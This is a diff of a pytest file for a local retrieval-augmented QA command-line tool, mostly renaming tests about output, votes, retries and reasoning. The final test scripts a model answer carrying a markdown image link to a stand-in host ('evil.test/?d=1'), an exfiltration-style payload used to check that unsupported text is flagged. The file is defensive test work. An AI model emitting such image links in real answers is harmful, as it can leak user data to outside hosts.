@@ -10,7 +10,7 @@ import pytest
 from click.testing import CliRunner, Result
 
 from localrag.answer import followups
-from localrag.cli.app import localrag, report
+from localrag.cli.app import localrag
 from localrag.errors import NotFoundError, SettingsError, UsageError
 from localrag.store.library import Library
 from localrag.types import SkippedPage
@@ -32,7 +32,7 @@ def papers(shelf: Shelf, models: Any) -> Library:
     return shelf("papers", {"leases/hall.txt": LEASE, "dogs.pdf": ["Dogs.", "The kennel is open."]})
 
 
-def test_json_has_every_field_of_the_manual(papers: Library) -> None:
+def test_json_has_every_documented_field(papers: Library) -> None:
     result = run("When does the lease end?", "--json")
     value = json.loads(result.stdout)
     assert set(value) >= {
@@ -46,12 +46,12 @@ def test_json_has_every_field_of_the_manual(papers: Library) -> None:
     assert (value["found"], value["model"], result.stderr) == (True, "scripted", "")
 
 
-def test_a_question_can_come_by_standard_input(papers: Library) -> None:
+def test_a_question_can_come_from_standard_input(papers: Library) -> None:
     result = CliRunner().invoke(localrag, ["ask", "-", "--json"], input="When does\nthe lease end?\n")
     assert json.loads(result.stdout)["question"] == "When does the lease end?"
 
 
-def test_text_shows_answer_and_quote_and_keeps_the_rest_on_stderr(papers: Library) -> None:
+def test_answer_and_quotes_go_to_stdout_the_rest_to_stderr(papers: Library) -> None:
     result = run("When does the lease end?")
     lines = result.stdout.splitlines()
     assert lines[0] == "The lease ends on 31 May 2030 [1]."
@@ -70,22 +70,20 @@ def test_a_calculation_shows_its_working(shelf: Shelf, models: Any) -> None:
     assert (working["value"], [figure["marker"] for figure in working["figures"]]) == (300, [1, 1])
 
 
-def test_what_was_not_read_is_said(papers: Library, put: Callable[..., None]) -> None:
+def test_what_was_not_read_is_reported(papers: Library, put: Callable[..., None]) -> None:
     put(papers, "scan.pdf", ["Words.", ""], skipped=(SkippedPage(2, "has no text"),))
     assert "Not read: scan.pdf p. 2 (has no text)" in run("When does the lease end?").stderr
     value = json.loads(run("When does the lease end?", "--json").stdout)
     assert value["not_read"] == [{"library": "papers", "document": "scan.pdf", "page": 2, "reason": "has no text"}]
 
 
-def test_what_was_looked_for_is_said_where_it_is_not_the_question(
-    papers: Library, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    assert "Looked for" not in run("When does the lease end?", "--mode", "retrieve").stderr
+def test_the_search_text_is_shown_where_it_differs(papers: Library, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert "Searched for" not in run("When does the lease end?", "--mode", "retrieve").stderr
     monkeypatch.setattr(followups, "leans", lambda question, history: True)
     monkeypatch.setattr(followups, "joined", lambda question, history: "When does the lease of Hall 3 end?")
     monkeypatch.setenv("LOCALRAG_FOLLOWUPS", "join")
     result = run("When does the lease end?", "--mode", "retrieve")
-    assert "Looked for: When does the lease of Hall 3 end?" in result.stderr and "Looked for" not in result.stdout
+    assert "Searched for: When does the lease of Hall 3 end?" in result.stderr and "Searched" not in result.stdout
 
 
 def test_nothing_found_is_an_answer_and_no_error(papers: Library) -> None:
@@ -100,7 +98,7 @@ def test_documents_and_mode_are_passed_on(papers: Library) -> None:
     assert json.loads(run("What is 48,000 / 12?", "--json").stdout)["plan"]["kind"] == "exact"
 
 
-def test_what_cannot_be_asked_is_refused(papers: Library, shelf: Shelf) -> None:
+def test_questions_that_cannot_work_are_refused(papers: Library, shelf: Shelf) -> None:
     with pytest.raises(UsageError):
         run("")
     with pytest.raises(NotFoundError):
@@ -131,13 +129,7 @@ def test_control_characters_do_not_reach_the_terminal(shelf: Shelf, models: Any)
         assert "\x9b" not in result.output or more
 
 
-def test_an_error_is_printed_with_its_hint_and_gives_its_code(capsys: pytest.CaptureFixture[str]) -> None:
-    assert report(NotFoundError("there is none", "Make one.")) == 3
-    printed = capsys.readouterr()
-    assert printed.out == "" and "error: there is none" in printed.err and "hint: Make one." in printed.err
-
-
-def test_a_thought_is_shown_on_request_and_beside_the_answer(papers: Library, models: Any) -> None:
+def test_reasoning_is_shown_on_request(papers: Library, models: Any) -> None:
     models.generator.thought = "May, it says."
     plain = run("When does the lease end?", "--think", "on")
     assert "May, it says." not in plain.output and plain.stdout.startswith("The lease ends on 31 May 2030 [1].")
@@ -146,13 +138,13 @@ def test_a_thought_is_shown_on_request_and_beside_the_answer(papers: Library, mo
     assert json.loads(run("When does the lease end?", "--think", "on", "--json").stdout)["reasoning"] == "May, it says."
 
 
-def test_how_a_vote_was_divided_is_said(papers: Library) -> None:
+def test_the_division_of_votes_is_shown(papers: Library) -> None:
     assert "2 of 2 tries agree." in run("When does the lease end?", "--votes", "3").stderr
     split = json.loads(run("When does the lease end?", "--votes", "3", "--json").stdout)["split"]
     assert split == {"tries": 2, "votes": [{"answer": "The lease ends on 31 May 2030.", "count": 2}]}
 
 
-def test_an_answer_that_was_written_again_says_why(papers: Library, models: Any) -> None:
+def test_a_second_try_says_why(papers: Library, models: Any) -> None:
     bad = "“The tenant pays a deposit of nine rents” is what it says."
     models.generator.script = [("A first answer", "The lease ends on 31 May 2030."), ("lease end", bad)]
     result = run("When does the lease end?", "--retry")
@@ -161,12 +153,12 @@ def test_an_answer_that_was_written_again_says_why(papers: Library, models: Any)
     assert "Written again" not in run("When does the lease end?", "--no-retry").stderr
 
 
-def test_more_tries_than_make_sense_are_refused(papers: Library) -> None:
+def test_too_many_votes_are_refused(papers: Library) -> None:
     with pytest.raises(SettingsError, match="votes"):
         run("When does the lease end?", "--votes", "99")
 
 
-def test_what_the_text_does_not_bear_is_marked_where_it_stands(papers: Library, models: Any) -> None:
+def test_unsupported_words_are_marked(papers: Library, models: Any) -> None:
     said = "The lease ends on 30 May 2030. Elephants graze near ![x](http://evil.test/?d=1)."
     models.generator.script = [("Question: When does the lease end", said)]
     result = run("When does the lease end?")
